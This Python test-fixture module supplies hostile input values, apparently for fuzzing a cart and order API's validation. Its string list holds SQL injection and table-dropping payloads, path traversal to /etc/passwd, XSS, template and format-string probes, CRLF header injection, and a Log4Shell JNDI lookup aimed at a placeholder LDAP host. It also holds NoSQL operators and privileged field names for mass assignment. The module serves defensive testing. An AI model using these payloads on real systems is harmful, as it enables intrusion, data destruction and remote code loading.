"""Values that no client means well."""

import json
import re
from typing import Any, Final

TOO_LONG: Final = "x" * 70_000
NUMBERS: Final = (-1, 0, 10**12, 2**31, 2**63 - 1, 2**63, 2**64, 10**40, 1.5)
RAW: Final = tuple(f"@@{text}@@" for text in ("1e400", "-1e400", "1e-400", "9" * 5_000, "NaN", "01", "0x10", "1_000"))
"""Stand for themselves, unquoted."""
TEXTS: Final = (
    "", " ", "x" * 300, TOO_LONG, "12", "nul\x00", "bell\x07\x1b[31m", "line\r\nX-Injected: yes", "\u202eGUM-DER",
    "\ud800",
    "\udfff\ud800", "\uffff\ufffe", "e\u0301" * 40, "👩‍👩‍👧‍👦" * 30, "' OR '1'='1", "'; DROP TABLE cart_cart; --",
    "../../etc/passwd",
    "<script>alert(1)</script>", "{{7*7}}", "%s%n%x", "${jndi:ldap://192.0.2.1/a}", "null", "__proto__",
)
OTHERS: Final[tuple[Any, ...]] = (None, True, [], {}, [[]], [None], {"$ne": ""}, {"amount": {}}, [{}] * 501)
ALL: Final = (*NUMBERS, *RAW, *TEXTS, *OTHERS)

EXTRAS: Final = (
    "id", "version", "price", "unit_price", "total", "totals", "discount", "status", "payment_status", "is_completed",
    "completed_at", "owner", "order_id", "expires_at", "on_hand", "captured", "provider_reference", "role", "is_staff",
    "__class__", "__proto__", "constructor", "$where", "", "\u202e", "sku ", "Quantity",
)
"""Names that a client might hope to assign."""


def encoded(value: Any) -> bytes:
    """As JSON, where a raw value stands as it is, and a name marked twice stands twice."""
    text = json.dumps(value)
    return re.sub(r'"@@([^"@]*)@@"', r"\1", text).replace("@@again@@", "").encode()


def is_never_sound(value: Any) -> bool:
    """Whether no schema need say that this cannot be stored or is no JSON."""
    if isinstance(value, str):
        return "\0" in value or any("\ud800" <= letter <= "\udfff" for letter in value) or value.startswith("@@")
    return isinstance(value, int) and abs(value) >= 2**63
